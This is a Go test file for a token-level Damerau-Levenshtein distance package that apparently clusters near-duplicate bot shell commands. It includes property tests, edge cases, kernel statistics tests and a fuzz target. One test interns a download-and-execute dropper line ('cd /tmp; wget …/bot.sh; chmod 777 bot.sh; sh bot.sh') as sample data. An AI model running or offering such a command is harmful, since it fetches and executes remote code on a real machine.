package textdist

import (
	"math/rand"
	"testing"
)

// genTokens returns a random token sequence over a small vocabulary —
// small so transpositions, shared affixes, and repeats occur often.
func genTokens(r *rand.Rand, maxLen int, vocab []string) []string {
	out := make([]string, r.Intn(maxLen+1))
	for i := range out {
		out[i] = vocab[r.Intn(len(vocab))]
	}
	return out
}

// TestBoundedKernelEqualsFullDP is the kernel-equivalence property
// test over token strings: interned, the bounded kernel must equal the
// naive full-DP reference on random token sequences, including
// transposition-heavy and shared-prefix/suffix cases (the shapes its
// affix stripping has to get right).
func TestBoundedKernelEqualsFullDP(t *testing.T) {
	r := rand.New(rand.NewSource(101))
	small := []string{"a", "b"}
	mid := []string{"cd", "/tmp", "wget", "chmod", "777", "sh", "rm", "-rf", "x"}
	s := NewScratch()
	in := NewInterner()
	trial := func(a, b []string) {
		t.Helper()
		want := Damerau(a, b)
		ia, ib := in.Intern(a), in.Intern(b)
		if got := s.damerauBoundedIDs(ia, ib); got != want {
			t.Fatalf("bounded = %d, full = %d for %v vs %v", got, want, a, b)
		}
		if got, wantN := s.NormalizedIDs(ia, ib), s.Normalized(a, b); got != wantN {
			t.Fatalf("normalized = %v, want %v for %v vs %v", got, wantN, a, b)
		}
	}
	for i := 0; i < 2000; i++ {
		// Tiny alphabet: dense with transpositions and equal runs.
		trial(genTokens(r, 12, small), genTokens(r, 12, small))
		// Mid alphabet at skewed lengths: exercises the length bound.
		trial(genTokens(r, 30, mid), genTokens(r, 8, mid))
	}
	// Shared-prefix/suffix cases: common affixes wrapped around random
	// cores, the exact shape obfuscated bot variants take.
	for i := 0; i < 2000; i++ {
		pre := genTokens(r, 6, mid)
		suf := genTokens(r, 6, mid)
		a := append(append(append([]string{}, pre...), genTokens(r, 10, small)...), suf...)
		b := append(append(append([]string{}, pre...), genTokens(r, 10, small)...), suf...)
		trial(a, b)
	}
	// Transposition-heavy: b is a with random adjacent swaps.
	for i := 0; i < 1000; i++ {
		a := genTokens(r, 20, mid)
		b := append([]string{}, a...)
		for k := 0; k+1 < len(b); k += 2 {
			if r.Intn(2) == 0 {
				b[k], b[k+1] = b[k+1], b[k]
			}
		}
		trial(a, b)
	}
}

// genIDs returns a random interned-ID sequence of exactly n tokens over
// IDs [base, base+vocab).
func genIDs(r *rand.Rand, n, vocab int, base int32) []int32 {
	out := make([]int32, n)
	for i := range out {
		out[i] = base + int32(r.Intn(vocab))
	}
	return out
}

// TestInternedKernelEqualsFullDP is the equivalence property test for
// the interned hot path: the hybrid kernel (single-word bit-parallel
// for short sides, blocked bit-parallel or the multiset-bound shortcut
// for long pairs) must equal the naive full DP on every random pair.
// Shapes cover every dispatch arm and the 64-token single-word
// boundary.
func TestInternedKernelEqualsFullDP(t *testing.T) {
	r := rand.New(rand.NewSource(202))
	s := NewScratch()
	trial := func(a, b []int32) {
		t.Helper()
		want := s.NormalizedIDsFull(a, b)
		if got := s.NormalizedIDs(a, b); got != want {
			t.Fatalf("hybrid = %v, full = %v for %v vs %v", got, want, a, b)
		}
	}
	for i := 0; i < 2000; i++ {
		// Short pairs over a tiny vocabulary: transposition-dense,
		// bit-parallel arm.
		trial(genIDs(r, r.Intn(20), 3, 0), genIDs(r, r.Intn(20), 3, 0))
		// Skewed lengths: short pattern against a long text.
		trial(genIDs(r, r.Intn(30), 6, 0), genIDs(r, 100+r.Intn(200), 6, 0))
	}
	for i := 0; i < 200; i++ {
		// Both sides past the single-word limit: the blocked arm, with a
		// shared vocabulary so the multiset bound cannot short-circuit.
		trial(genIDs(r, 65+r.Intn(80), 8, 0), genIDs(r, 65+r.Intn(80), 8, 0))
		// Disjoint vocabularies: the bound pins d = maxLen with no DP.
		trial(genIDs(r, 65+r.Intn(40), 8, 0), genIDs(r, 65+r.Intn(40), 8, 100))
		// Long near-duplicates (edits survive affix stripping).
		a := genIDs(r, 80+r.Intn(60), 50, 0)
		b := append([]int32{}, a...)
		for k := 0; k < 5; k++ {
			p := r.Intn(len(b))
			switch r.Intn(3) {
			case 0:
				b[p] = int32(50 + r.Intn(5))
			case 1:
				b = append(b[:p], b[p+1:]...)
			default:
				if p+1 < len(b) {
					b[p], b[p+1] = b[p+1], b[p]
				}
			}
		}
		trial(a, b)
	}
	// The single-word boundary: patterns of exactly 63, 64, and 65
	// tokens (65 dispatches to the blocked arm).
	for _, m := range []int{63, 64, 65} {
		for i := 0; i < 200; i++ {
			trial(genIDs(r, m, 4, 0), genIDs(r, m+r.Intn(40), 4, 0))
		}
	}
	// Many-block patterns: carries must chain across 5+ words.
	for i := 0; i < 30; i++ {
		trial(genIDs(r, 300+r.Intn(200), 10, 0), genIDs(r, 300+r.Intn(200), 10, 0))
	}
}

// TestBoundedKernelEdgeCases pins the hand-checkable shapes.
func TestBoundedKernelEdgeCases(t *testing.T) {
	s := NewScratch()
	in := NewInterner()
	cases := []struct {
		a, b string
		want int
	}{
		{"", "", 0},
		{"a", "", 1},
		{"", "a b c", 3},
		{"a b c", "a b c", 0},
		{"a b c d", "a c b d", 1},           // transposition inside affixes
		{"a b", "b a", 1},                   // pure transposition
		{"a a a a", "a a", 2},               // common affix overlap
		{"x y z", "p q r", 3},               // disjoint
		{"a x b", "a y b", 1},               // affix strip to single sub
		{"p p p x q q", "p p p y z q q", 2}, // stripped core differs
	}
	for _, c := range cases {
		a, b := Tokenize(c.a), Tokenize(c.b)
		if got := s.damerauBoundedIDs(in.Intern(a), in.Intern(b)); got != c.want {
			t.Errorf("damerauBoundedIDs(%q, %q) = %d, want %d", c.a, c.b, got, c.want)
		}
		if got := Damerau(a, b); got != c.want {
			t.Errorf("Damerau(%q, %q) = %d, want %d", c.a, c.b, got, c.want)
		}
	}
}

// TestKernelStats: the counters must reflect the work split — every
// pair counted, trivial pairs resolved without a kernel pass, and the
// kernel's cell count never exceeding the full-DP cell count on
// near-duplicate pairs.
func TestKernelStats(t *testing.T) {
	s := NewScratch()
	in := NewInterner()
	a := in.Intern(Tokenize("cd /tmp; wget http://203.0.113.1/bot.sh; chmod 777 bot.sh; sh bot.sh"))
	b := in.Intern(Tokenize("cd /tmp; wget http://198.51.100.9/bot.sh; chmod 777 bot.sh; sh bot.sh"))
	s.NormalizedIDs(a, a) // identical: trivial
	s.NormalizedIDs(a, b) // near-duplicate: one bit-parallel pass
	st := s.Stats()
	if st.Pairs != 2 {
		t.Errorf("pairs = %d, want 2", st.Pairs)
	}
	if st.Trivial != 1 {
		t.Errorf("trivial = %d, want 1", st.Trivial)
	}
	if st.BandPasses < 1 {
		t.Errorf("band passes = %d, want >= 1", st.BandPasses)
	}
	if st.CellsDP >= st.CellsFull {
		t.Errorf("cells: kernel %d >= full %d — no work saved on near-duplicates", st.CellsDP, st.CellsFull)
	}
	var sum KernelStats
	sum.Add(st)
	sum.Add(st)
	if sum.Pairs != 4 || sum.CellsDP != 2*st.CellsDP {
		t.Errorf("Add: %+v", sum)
	}
	s.ResetStats()
	if s.Stats() != (KernelStats{}) {
		t.Errorf("reset: %+v", s.Stats())
	}
}

// FuzzDamerauBanded fuzzes the bounded kernel against the naive full-DP
// reference. Bytes map to a small token vocabulary so the fuzzer finds
// structural cases (affixes, transpositions, repeats) rather than
// unique-token noise; the low bits of band pick an early-abandon bound
// for the public DamerauBanded contract too.
func FuzzDamerauBanded(f *testing.F) {
	f.Add([]byte("abcabc"), []byte("abacbc"), uint8(3))
	f.Add([]byte(""), []byte("zzz"), uint8(0))
	f.Add([]byte("prefix-core-suffix"), []byte("prefix-eroc-suffix"), uint8(7))
	vocab := []string{"cd", "/tmp", "wget", "x", "sh", "rm", "a", "b"}
	toTokens := func(raw []byte) []string {
		// Past the 64-token single-word limit so the fuzzer reaches the
		// banded long-pair arm of the interned kernel too.
		if len(raw) > 100 {
			raw = raw[:100]
		}
		out := make([]string, len(raw))
		for i, c := range raw {
			out[i] = vocab[int(c)%len(vocab)]
		}
		return out
	}
	f.Fuzz(func(t *testing.T, rawA, rawB []byte, band uint8) {
		a, b := toTokens(rawA), toTokens(rawB)
		s := NewScratch()
		full := Damerau(a, b)
		// The interned hybrid kernel: intern both sequences and compare
		// against the unbounded ID reference.
		in := NewInterner()
		ia, ib := in.Intern(a), in.Intern(b)
		if got, want := s.NormalizedIDs(ia, ib), s.NormalizedIDsFull(ia, ib); got != want {
			t.Fatalf("hybrid ids = %v, full ids = %v for %v vs %v", got, want, a, b)
		}
		// The early-abandon contract: exact within the bound, anything
		// above the bound reported as > bound.
		bound := int(band % 16)
		banded := s.DamerauBanded(a, b, bound)
		if full <= bound && banded != full {
			t.Fatalf("banded(%d) = %d, full = %d", bound, banded, full)
		}
		if full > bound && banded <= bound {
			t.Fatalf("banded(%d) = %d should exceed bound, full = %d", bound, banded, full)
		}
	})
}
